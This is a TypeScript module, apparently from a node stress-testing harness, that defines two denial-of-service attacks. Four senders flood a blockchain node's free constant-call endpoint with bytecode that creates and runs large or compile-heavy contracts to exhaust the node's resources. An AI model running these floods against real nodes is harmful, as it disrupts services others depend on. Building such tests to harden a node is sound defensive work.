/** Code that a node prepares or compiles for callers who pay nothing. */

import { toHex } from "../../../src/protocol/bytes.js";
import { assemble } from "../../node/vm/assembler.js";
import { ask } from "../ask.js";
import { type Attack, attackerHost, tally } from "../attack.js";
import { constantCall } from "./servers.js";

const SENDERS = 4;
/** A push of eight bytes, and a POP. */
const PAIR = "67112233445566778850";
/** The created code has 2^15 pairs, as many as a constant call's energy pays for. */
const DOUBLINGS = 15;

/** Creates a contract from init code, and calls it. */
function creationOf(maker: Uint8Array): string {
	const length = maker.length.toString(16).padStart(4, "0");
	const creator = (at: string): Uint8Array =>
		assemble(`
			0x${length} 0x${at} 0x00 CODECOPY 0x${length} 0x00 0x00 CREATE
			0x00 0x00 0x00 0x00 0x00 DUP6 0x02faf080 CALL STOP
		`);
	const at = creator("0000").length.toString(16).padStart(4, "0");
	return toHex(creator(at)) + toHex(maker);
}

/** Creates a unique contract of 320 KB of pushes, by a number at its end, and calls it. */
function createAndCall(number: number): string {
	const bytes = PAIR.length / 2;
	const size = (bytes << DOUBLINGS).toString(16);
	// The identity precompile doubles the memory; the code ends with zeros (STOP) and the number.
	const maker = assemble(`
		0x${PAIR.padEnd(64, "0")} 0x00 MSTORE 0x${bytes.toString(16)}
		loop: DUP1 DUP2 DUP2 0x00 0x00 0x04 0xffffff CALL POP
		0x02 MUL 0x${size} DUP2 LT @loop JUMPI
		0x${number.toString(16).padStart(64, "0")} DUP2 MSTORE 0x20 ADD 0x00 RETURN
	`);
	return creationOf(maker);
}

/** Counts down from 100,000, followed by dead code that compiles to the largest output; 32 bytes each. */
const COUNTDOWN = "620186a05b6001900380600457".padEnd(64, "0");
const FILLER = `5b6007${"80".repeat(16)}${"5f5150".repeat(4)}5b`;
const FILLER_DOUBLINGS = 9;
/** Calls after which a program of 16 KB counts as hot. */
const CALLS_UNTIL_HOT = 8;

/** Like {@link createAndCall}, with a contract that is worth compiling after some calls. */
function createAndCount(number: number): string {
	const size = (32 << FILLER_DOUBLINGS).toString(16);
	const maker = assemble(`
		0x${COUNTDOWN} 0x00 MSTORE 0x${FILLER} 0x20 MSTORE 0x20
		loop: DUP1 DUP1 0x20 ADD DUP2 0x20 0x00 0x04 0xffffff CALL POP
		0x02 MUL 0x${size} DUP2 LT @loop JUMPI
		0x20 ADD 0x${number.toString(16).padStart(64, "0")} DUP2 MSTORE 0x20 ADD 0x00 RETURN
	`);
	return creationOf(maker);
}

/** Sends constant calls from all senders, each with a unique number. */
const calling = (name: string, sends: string, data: (number: number) => string): Attack => ({
	name,
	sends,
	async run({ ports }, durationMs) {
		const end = Date.now() + durationMs;
		const outcomes: string[] = [];
		let number = 0;
		const sender = async (n: number): Promise<void> => {
			while (Date.now() < end) {
				const body = constantCall(data(number++));
				const text = await ask(ports.http, "/wallet/triggerconstantcontract", body, {
					host: attackerHost(n),
				}).catch(() => "closed");
				outcomes.push(/"result":\s*true/.test(text) ? "answered" : text.slice(0, 100));
			}
		};
		await Promise.all(Array.from({ length: SENDERS }, (_, n) => sender(n)));
		return tally(outcomes);
	},
});

export const compiledCode: readonly Attack[] = [
	calling(
		"call-programs",
		"constant calls that each create a contract of 320 KB of pushes and run it, from 4 senders",
		createAndCall,
	),
	calling(
		"call-hot-programs",
		"constant calls that create contracts of 16 KB, which compiled take a hundred times as much, and run each until it is compiled, from 4 senders",
		(number) => createAndCount(Math.floor(number / CALLS_UNTIL_HOT)),
	),
];
